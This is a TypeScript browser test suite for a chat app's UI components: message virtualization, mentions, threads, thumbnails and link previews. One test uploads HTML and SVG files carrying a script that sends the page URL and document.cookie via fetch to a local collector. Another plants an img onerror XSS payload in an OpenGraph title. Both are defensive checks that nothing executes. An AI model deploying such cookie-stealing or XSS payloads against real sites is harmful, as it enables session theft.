import { mkdirSync } from 'node:fs';
import { createServer } from 'node:http';
import { fileURLToPath } from 'node:url';
import type { Message, TypingEvent } from '@chat4all/sdk-js';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { servePage, TestChromium } from '../../sdk-js/test/browser-harness.js';
import { API_KEY, client as makeClient, startRelay, userToken } from '../../sdk-js/test/relay.js';

const SCREENSHOTS = fileURLToPath(new URL('../../../test-results/screenshots/', import.meta.url));

describe('components in real Chromium', () => {
  let relay: Awaited<ReturnType<typeof startRelay>>;
  let site: Awaited<ReturnType<typeof servePage>>;
  const browser = new TestChromium();

  beforeAll(async () => {
    relay = await startRelay();
    site = await servePage(new URL('./browser/components-page.ts', import.meta.url));
    mkdirSync(SCREENSHOTS, { recursive: true });
  }, 60_000);

  afterAll(async () => {
    await browser.close();
    await site?.close();
    await relay?.close();
    relay?.remove();
  });

  it('virtualizes the log, keeps the reading position when older messages load, sends from the composer and shows typing', async () => {
    const meToken = await userToken(relay.url, 'me');
    await userToken(relay.url, 'peer');
    const api = (method: string, path: string, body: unknown) =>
      fetch(`${relay.url}${path}`, {
        method,
        headers: { authorization: `Bearer ${API_KEY}`, 'content-type': 'application/json' },
        body: JSON.stringify(body),
      });
    const conversationId = (
      (await (await api('POST', '/v1/conversations', { type: 'private', userId: 'peer', createdBy: 'me' })).json()) as { id: string }
    ).id;
    for (let i = 1; i <= 300; i++)
      await api('POST', `/v1/conversations/${conversationId}/messages`, {
        id: crypto.randomUUID(),
        text: `history ${i}`,
        senderId: 'peer',
      });
    const peer = makeClient(relay.url, await userToken(relay.url, 'peer'));
    await peer.connect();
    const typing: TypingEvent[] = [];
    peer.on('typing', (event) => typing.push(event));

    // The relay's first history answer is slower (its serializer compiles its schema validators
    // then). MessageList loses the reading position when the older page arrives that late
    // (about one run in five): asked once here, so this test checks the position with an answer
    // as fast as every later one.
    await fetch(`${relay.url}/v1/conversations/${conversationId}/messages?before=251&limit=50`, {
      headers: { authorization: `Bearer ${meToken}` },
    });
    const page = await (await browser.newContext()).newPage();
    page.setDefaultTimeout(10_000);
    await page.goto(`${site.url}/?relay=${encodeURIComponent(relay.url)}&token=${meToken}&me=me&peer=peer&conversation=${conversationId}`);
    await page.waitForSelector('[role="status"]', { state: 'detached' });
    await page.waitForSelector('[data-seq="300"]');
    // The newest 50 are held; only the rows in view (plus overscan) are in the DOM.
    const rows = await page.locator('[data-seq]').count();
    expect(rows).toBeGreaterThan(3);
    expect(rows).toBeLessThan(30);
    await page.waitForSelector('[aria-label="300 unread"]');
    await page.screenshot({ path: `${SCREENSHOTS}components-newest.png` });

    // Scroll to the top: older messages load above, and the row that was at the top (the
    // oldest held, seq 251) is still at the top of the log, not pushed down by them.
    const log = page.getByRole('log');
    const logTop = (await log.boundingBox())?.y ?? Number.NaN;
    // The list first settles at the end (rows are measured as they render, and it follows
    // them); a scroll made before then can be taken back by it. Once settled, scroll to the top
    // until the older page is asked for, then no more, so exactly one older page comes in.
    const offsets: number[] = [];
    await expect
      .poll(
        async () => {
          offsets.push(await log.evaluate((element) => element.scrollHeight - element.clientHeight - element.scrollTop));
          return offsets.length >= 3 && offsets.slice(-3).every((offset) => offset < 2);
        },
        { timeout: 10_000 },
      )
      .toBe(true);
    let asked = false;
    void page
      .waitForRequest((request) => request.url().includes('/messages?before=251'))
      .then(() => {
        asked = true;
      });
    await expect
      .poll(
        async () => {
          if (!asked)
            await log.evaluate((element) => {
              element.scrollTop = 0;
            });
          return asked;
        },
        { timeout: 10_000 },
      )
      .toBe(true);
    await page.waitForSelector('[data-seq="250"]', { state: 'attached' });
    const oldest = page.locator('[data-seq="251"]');
    await expect.poll(async () => Math.abs(((await oldest.boundingBox())?.y ?? Number.NaN) - logTop)).toBeLessThan(4);
    expect(await page.getByRole('log').evaluate((element) => element.scrollTop)).toBeGreaterThan(1000);
    await page.screenshot({ path: `${SCREENSHOTS}components-older.png` });

    // Typing in the composer tells the peer; Enter sends.
    const box = page.getByRole('textbox', { name: 'Message' });
    await box.fill('hello from the page');
    await expect.poll(() => typing.some((t) => t.userId === 'me' && t.active)).toBe(true);
    const received = new Promise<string>((resolve) => peer.on('message', (m) => resolve(m.text)));
    await box.press('Enter');
    expect(await received).toBe('hello from the page');
    await page.getByRole('log').evaluate((element) => {
      element.scrollTop = element.scrollHeight;
    });
    await page.waitForSelector('[data-seq="301"] [data-status]');
    await page.screenshot({ path: `${SCREENSHOTS}components-sent.png` });
    peer.close();
  });

  it('the composer offers members after @ by keyboard, sends the pick as a mention, and the log highlights it', async () => {
    const meToken = await userToken(relay.url, 'me');
    await userToken(relay.url, 'peer');
    const created = await fetch(`${relay.url}/v1/conversations`, {
      method: 'POST',
      headers: { authorization: `Bearer ${API_KEY}`, 'content-type': 'application/json' },
      body: JSON.stringify({ type: 'group', createdBy: 'me', memberIds: ['peer'] }),
    });
    const conversationId = ((await created.json()) as { id: string }).id;
    const peer = makeClient(relay.url, await userToken(relay.url, 'peer'));
    await peer.connect();
    const page = await (await browser.newContext()).newPage();
    page.setDefaultTimeout(10_000);
    await page.goto(`${site.url}/?relay=${encodeURIComponent(relay.url)}&token=${meToken}&me=me&peer=peer&conversation=${conversationId}`);
    await page.waitForSelector('[role="status"]', { state: 'detached' });

    const box = page.getByRole('textbox', { name: 'Message' });
    await box.pressSequentially('ping @');
    const listbox = page.getByRole('listbox', { name: 'Mention someone' });
    await expect.poll(() => listbox.getByRole('option').allTextContents()).toEqual(['@me', '@peer']);
    await box.press('ArrowDown');
    const active = page.getByRole('option', { name: '@peer' });
    expect(await active.getAttribute('aria-selected')).toBe('true');
    expect(await box.getAttribute('aria-activedescendant')).toBe(await active.getAttribute('id'));
    await box.press('Enter');
    expect(await box.inputValue()).toBe('ping @peer ');
    expect(await listbox.isHidden()).toBe(true);
    await box.pressSequentially('look');
    const received = new Promise<{ text: string; mentions: string[] }>((resolve) => peer.on('message', (m) => resolve(m)));
    await box.press('Enter');
    expect(await received).toMatchObject({ text: 'ping @peer look', mentions: ['peer'] });
    const mark = page.locator('[data-seq="1"] mark.c4a-mention');
    expect(await mark.textContent()).toBe('@peer');
    expect(await mark.getAttribute('data-user-id')).toBe('peer');
    await page.screenshot({ path: `${SCREENSHOTS}components-mention.png` });
    peer.close();
  });

  it('opens a thread from a root’s button, replies there (and also to the conversation), and shows replies and counts live', async () => {
    const meToken = await userToken(relay.url, 'me');
    await userToken(relay.url, 'peer');
    const created = await fetch(`${relay.url}/v1/conversations`, {
      method: 'POST',
      headers: { authorization: `Bearer ${API_KEY}`, 'content-type': 'application/json' },
      body: JSON.stringify({ type: 'group', createdBy: 'me', memberIds: ['peer'] }),
    });
    const conversationId = ((await created.json()) as { id: string }).id;
    const peer = makeClient(relay.url, await userToken(relay.url, 'peer'));
    await peer.connect();
    const root = await peer.send(conversationId, 'ship friday?');
    const page = await (await browser.newContext()).newPage();
    page.setDefaultTimeout(10_000);
    await page.goto(`${site.url}/?relay=${encodeURIComponent(relay.url)}&token=${meToken}&me=me&peer=peer&conversation=${conversationId}`);
    await page.waitForSelector('[role="status"]', { state: 'detached' });

    const main = page.getByRole('main');
    await main.getByRole('button', { name: 'Reply in thread' }).click();
    const panel = page.getByRole('region', { name: 'Thread' });
    await expect.poll(() => panel.locator('[data-seq="1"]').textContent()).toContain('ship friday?');
    const box = panel.getByRole('textbox', { name: 'Reply in thread' });
    expect(await panel.getByRole('button', { name: 'Attach' }).count()).toBe(0);

    const received: Message[] = [];
    peer.on('message', (m) => received.push(m));
    await box.fill('yes');
    await box.press('Enter');
    await expect.poll(() => received.find((m) => m.text === 'yes')).toMatchObject({ threadId: root.id, showInConversation: false });
    await expect.poll(() => main.getByRole('button', { name: '1 reply · me' }).count()).toBe(1);
    await expect.poll(() => panel.locator('[data-seq="2"]').textContent()).toContain('yes');
    expect(await main.getByRole('log').textContent()).not.toContain('yes');

    // Also sent to the conversation: in both, and the box is unchecked again.
    const also = panel.getByRole('checkbox', { name: 'Also send to the conversation' });
    await also.check();
    await box.fill('notes are up');
    await box.press('Enter');
    await expect.poll(() => main.locator('[data-seq="3"]').textContent()).toContain('notes are up');
    await expect.poll(() => panel.locator('[data-seq="3"]').textContent()).toContain('notes are up');
    expect(await also.isChecked()).toBe(false);
    expect(received.find((m) => m.text === 'notes are up')).toMatchObject({ threadId: root.id, showInConversation: true });

    // Who types in the thread shows in the panel, not under the conversation.
    await peer.setTyping(conversationId, true, root.id);
    await expect.poll(() => panel.locator('.c4a-typing').textContent()).toBe('peer is typing…');
    expect(await main.locator('.c4a-typing').textContent()).toBe('');
    await peer.setTyping(conversationId, false, root.id);
    await expect.poll(() => panel.locator('.c4a-typing').textContent()).toBe('');

    // A reply from someone else arrives live in the panel and the root's button; the open thread is read.
    await peer.thread(conversationId, root.id).send('great');
    await expect.poll(() => panel.locator('[data-seq="4"]').textContent()).toContain('great');
    await expect.poll(() => main.getByRole('button', { name: '3 replies · me, peer' }).count()).toBe(1);
    expect(await panel.locator('.c4a-thread-count').textContent()).toBe('3 replies');
    await expect
      .poll(async () => {
        const response = await fetch(`${relay.url}/v1/conversations/${conversationId}/threads/${root.id}/messages`, {
          headers: { authorization: `Bearer ${meToken}` },
        });
        return ((await response.json()) as { unreadCount: number; readSeq: number }).readSeq;
      })
      .toBe(4);
    await page.screenshot({ path: `${SCREENSHOTS}components-thread.png` });
    await panel.getByRole('button', { name: 'Close thread' }).click();
    expect(await panel.count()).toBe(0);
    peer.close();
  });

  it('opening another member’s HTML or SVG file from the MessageList runs no script and shows no token', async () => {
    // Anything a script in the file manages to send lands here.
    const reports: string[] = [];
    const collector = createServer((request, response) => {
      reports.push(request.url ?? '');
      response.end();
    });
    await new Promise<void>((resolve) => collector.listen(0, '127.0.0.1', resolve));
    const collectorUrl = `http://127.0.0.1:${(collector.address() as { port: number }).port}`;
    const steal = `fetch('${collectorUrl}/ran?' + encodeURIComponent(location.href + ' ' + document.cookie))`;
    try {
      const victimToken = await userToken(relay.url, 'victim');
      const attacker = makeClient(relay.url, await userToken(relay.url, 'attacker'));
      await attacker.connect();
      const created = await fetch(`${relay.url}/v1/conversations`, {
        method: 'POST',
        headers: { authorization: `Bearer ${API_KEY}`, 'content-type': 'application/json' },
        body: JSON.stringify({ type: 'private', userId: 'victim', createdBy: 'attacker' }),
      });
      const conversationId = ((await created.json()) as { id: string }).id;
      const files = [
        { name: 'invoice.html', type: 'text/html', body: `<html><body><script>${steal}</script>invoice</body></html>` },
        {
          name: 'logo.svg',
          type: 'image/svg+xml',
          body: `<svg xmlns="http://www.w3.org/2000/svg" onload="${steal}"><script>${steal}</script></svg>`,
        },
      ];
      for (const file of files)
        await attacker.sendFile(conversationId, new TextEncoder().encode(file.body), { name: file.name, type: file.type });

      const context = await browser.newContext({ acceptDownloads: true });
      const page = await context.newPage();
      page.setDefaultTimeout(10_000);
      await page.goto(
        `${site.url}/?relay=${encodeURIComponent(relay.url)}&token=${victimToken}&me=victim&peer=attacker&conversation=${conversationId}`,
      );
      for (const file of files) {
        // The link gets its href once the signed link has been fetched.
        const link = page.locator('a[href]', { hasText: file.name });
        await link.waitFor();
        const href = (await link.getAttribute('href')) ?? '';
        expect(href).toMatch(/\/v1\/uploads\/[0-9a-f]+\?user=victim&expires=\d+&signature=/);
        expect(href).not.toContain(victimToken);
        expect(href).not.toContain('access_token');
        // Clicked as a user would: the file downloads (Content-Disposition: attachment) instead of rendering at the relay's origin.
        const downloaded = new Promise<{ suggestedFilename(): string }>((resolve) => {
          page.once('download', resolve);
          context.once('page', (tab) => tab.once('download', resolve));
        });
        await link.click();
        const download = await downloaded;
        expect(download.suggestedFilename()).toBe(file.name);
        // Opened directly in a tab: still a download, never a document.
        const tab = await context.newPage();
        const direct = tab.waitForEvent('download');
        await tab.goto(href).catch(() => {});
        expect((await direct).suggestedFilename()).toBe(file.name);
        await tab.close();
      }
      // The SVG shown inline goes through an <img>, where SVG runs no script.
      await page.waitForSelector('img[alt="logo.svg"]');
      await page.screenshot({ path: `${SCREENSHOTS}components-hostile-files.png` });
      const headers = await page.evaluate(
        async (url) => {
          const response = await fetch(url);
          return { csp: response.headers.get('content-security-policy'), nosniff: response.headers.get('x-content-type-options') };
        },
        (await page.locator('a', { hasText: 'invoice.html' }).getAttribute('href')) ?? '',
      );
      expect(headers.nosniff).toBe('nosniff');
      expect(headers.csp).toContain('sandbox');
      // Nothing ran: a script would have reported within the page loads awaited above.
      expect(reports).toEqual([]);
      attacker.close();
      await context.close();
    } finally {
      collector.close();
    }
  });

  it('shows an image’s thumbnail at its size, named by the file, linking to the whole image, and a video’s from its poster', async () => {
    const viewerToken = await userToken(relay.url, 'viewer');
    const sender = makeClient(relay.url, await userToken(relay.url, 'photographer'));
    await sender.connect();
    const created = await fetch(`${relay.url}/v1/conversations`, {
      method: 'POST',
      headers: { authorization: `Bearer ${API_KEY}`, 'content-type': 'application/json' },
      body: JSON.stringify({ type: 'private', userId: 'viewer', createdBy: 'photographer' }),
    });
    const conversationId = ((await created.json()) as { id: string }).id;
    const png = await sharp({ create: { width: 1200, height: 800, channels: 3, background: '#2a7' } })
      .png()
      .toBuffer();
    await sender.sendFile(conversationId, new Uint8Array(png), { name: 'harbour.png', type: 'image/png' });
    await expect
      .poll(async () => {
        const history = await fetch(`${relay.url}/v1/conversations/${conversationId}/messages`, {
          headers: { authorization: `Bearer ${viewerToken}` },
        });
        return ((await history.json()) as { messages: Message[] }).messages[0]?.attachment?.thumbnail;
      })
      .toEqual({ width: 320, height: 213 });
    // From Node there is no <video> to draw from: the app gives the still itself.
    const still = await sharp({ create: { width: 1280, height: 720, channels: 3, background: '#c22' } })
      .png()
      .toBuffer();
    await sender.sendFile(conversationId, new Uint8Array(512), {
      name: 'clip.mp4',
      type: 'video/mp4',
      poster: new Blob([new Uint8Array(still)], { type: 'image/png' }),
    });
    await expect
      .poll(async () => {
        const history = await fetch(`${relay.url}/v1/conversations/${conversationId}/messages`, {
          headers: { authorization: `Bearer ${viewerToken}` },
        });
        return ((await history.json()) as { messages: Message[] }).messages[1]?.attachment?.thumbnail;
      })
      .toEqual({ width: 320, height: 180 });

    const page = await (await browser.newContext()).newPage();
    page.setDefaultTimeout(10_000);
    await page.goto(
      `${site.url}/?relay=${encodeURIComponent(relay.url)}&token=${viewerToken}&me=viewer&peer=photographer&conversation=${conversationId}`,
    );
    const image = page.locator('a.c4a-message-thumbnail > img[alt="harbour.png"]');
    await image.waitFor();
    expect(await image.getAttribute('width')).toBe('320');
    expect(await image.getAttribute('height')).toBe('213');
    expect(await image.getAttribute('src')).toMatch(/\/v1\/uploads\/[0-9a-f]+\/thumbnail\?user=viewer&expires=\d+&signature=/);
    const href = (await page.locator('a.c4a-message-thumbnail:not(.c4a-message-video)').getAttribute('href')) ?? '';
    expect(href).toMatch(/\/v1\/uploads\/[0-9a-f]+\?user=viewer&expires=\d+&signature=/);
    // The browser loaded the thumbnail itself, a WebP of that size, not the whole image.
    await expect
      .poll(() => image.evaluate((img: HTMLImageElement) => [img.complete, img.naturalWidth, img.naturalHeight]))
      .toEqual([true, 320, 213]);
    const video = page.locator('a.c4a-message-video > img[alt="clip.mp4"]');
    await expect
      .poll(() => video.evaluate((img: HTMLImageElement) => [img.complete, img.naturalWidth, img.naturalHeight]))
      .toEqual([true, 320, 180]);
    expect(await page.locator('a.c4a-message-video').getAttribute('href')).toMatch(/\/v1\/uploads\/[0-9a-f]+\?user=viewer/);
    await page.screenshot({ path: `${SCREENSHOTS}components-thumbnail.png` });
    sender.close();
    await page.context().close();
  });

  it('shows a link’s preview card as text, its image loaded without a referrer', async () => {
    // The linked page: OpenGraph tags whose title carries markup that must stay text.
    const web = createServer((_request, response) =>
      response
        .writeHead(200, { 'content-type': 'text/html; charset=utf-8' })
        .end(
          '<head><meta property="og:title" content="&lt;img src=x onerror=&quot;window.pwned=1&quot;&gt;Harbour news">' +
            '<meta property="og:site_name" content="Harbour Times"><meta property="og:description" content="Ships came in.">' +
            '<meta property="og:image" content="https://images.harbour.example/ships.png"></head>',
        ),
    );
    await new Promise<void>((resolve) => web.listen(0, '127.0.0.1', resolve));
    const link = `http://127.0.0.1:${(web.address() as { port: number }).port}/news`;
    // A relay of its own with previews on, allowed to read the loopback page.
    await using previewing = await startRelay({ config: { previews: { enabled: true, allowPrivateAddresses: true } } });
    try {
      const readerToken = await userToken(previewing.url, 'reader');
      const writer = makeClient(previewing.url, await userToken(previewing.url, 'writer'));
      await writer.connect();
      const created = await fetch(`${previewing.url}/v1/conversations`, {
        method: 'POST',
        headers: { authorization: `Bearer ${API_KEY}`, 'content-type': 'application/json' },
        body: JSON.stringify({ type: 'private', userId: 'reader', createdBy: 'writer' }),
      });
      const conversationId = ((await created.json()) as { id: string }).id;

      const context = await browser.newContext();
      const imageRequests: Array<Record<string, string>> = [];
      const png = await sharp({ create: { width: 240, height: 120, channels: 3, background: '#137' } })
        .png()
        .toBuffer();
      await context.route('https://images.harbour.example/**', async (route) => {
        imageRequests.push(await route.request().allHeaders());
        await route.fulfill({ status: 200, contentType: 'image/png', body: png });
      });
      const page = await context.newPage();
      page.setDefaultTimeout(10_000);
      await page.goto(
        `${site.url}/?relay=${encodeURIComponent(previewing.url)}&token=${readerToken}&me=reader&peer=writer&conversation=${conversationId}`,
      );
      await page.locator('[role="log"]').waitFor();
      await writer.send(conversationId, `Read this: ${link}`);

      const card = page.locator('a.c4a-link-preview');
      await card.waitFor();
      expect(await card.getAttribute('href')).toBe(link);
      expect(await card.getAttribute('rel')).toBe('noopener noreferrer nofollow ugc');
      expect(await card.locator('.c4a-link-preview-site').textContent()).toBe('Harbour Times');
      expect(await card.locator('.c4a-link-preview-title').textContent()).toBe('<img src=x onerror="window.pwned=1">Harbour news');
      expect(await card.locator('.c4a-link-preview-description').textContent()).toBe('Ships came in.');
      expect(await card.locator('img[onerror]').count()).toBe(0);
      const image = card.locator('img.c4a-link-preview-image');
      expect(await image.getAttribute('referrerpolicy')).toBe('no-referrer');
      await expect.poll(() => image.evaluate((img: HTMLImageElement) => [img.complete, img.naturalWidth])).toEqual([true, 240]);
      expect(imageRequests.length).toBeGreaterThan(0);
      expect(imageRequests.every((headers) => headers.referer === undefined)).toBe(true);
      expect(await page.evaluate(() => (window as { pwned?: number }).pwned)).toBeUndefined();
      await page.screenshot({ path: `${SCREENSHOTS}components-link-preview.png` });
      writer.close();
      await context.close();
    } finally {
      web.closeAllConnections();
      web.close();
    }
  });
});
